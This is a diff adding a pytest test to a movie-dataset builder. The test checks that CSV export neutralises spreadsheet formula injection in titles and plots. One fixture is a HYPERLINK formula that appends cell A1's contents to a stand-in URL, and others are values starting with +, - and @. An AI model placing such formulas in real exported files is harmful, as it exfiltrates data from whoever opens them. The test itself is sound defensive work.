@@ -362,3 +362,18 @@ def test_a_passing_error_an_older_run_cached_is_asked_again(omdb, tmp_path, caps
     (cache / "tt0000001.json").write_text(json.dumps({"Response": "False", "Error": "Error getting data."}))
     assert _run(omdb, tmp_path, ["tt0000001"]) == 0
     assert omdb.asked["tt0000001"] == 1 and "tt0000001" in load_dataset(tmp_path / "out" / "movies.csv").ids
+
+
+def test_a_title_or_plot_a_spreadsheet_would_run_is_written_inert_and_trains_as_it_was(omdb, tmp_path, capsys):
+    import csv
+    hostile = {"tt0000094": ("+1", "-- a party goes wrong."), "tt0000095": ('=HYPERLINK("http://x/?"&A1,"go")', "@home.")}
+    for imdb_id, (title, plot) in hostile.items():
+        omdb.special[imdb_id] = _film(imdb_id, title, "Comedy", plot=plot, poster="N/A")
+    assert _run(omdb, tmp_path, [*hostile, "tt0000020"], "--no-posters") == 0
+    with open(tmp_path / "out" / "movies.csv", newline="", encoding="utf-8") as handle:
+        written = {row[0]: row for row in csv.reader(handle)}
+    assert [written[i][1::3] for i in hostile] == [["'+1", "'-- a party goes wrong."],
+                                                    ["'" + hostile["tt0000095"][0], "'@home."]]
+    assert written["tt0000020"][1] == "Film 20"
+    rows = load_dataset(tmp_path / "out" / "movies.csv").frame.set_index("id")
+    assert [(rows.loc[i, "title"], rows.loc[i, "plot"]) for i in hostile] == list(hostile.values())
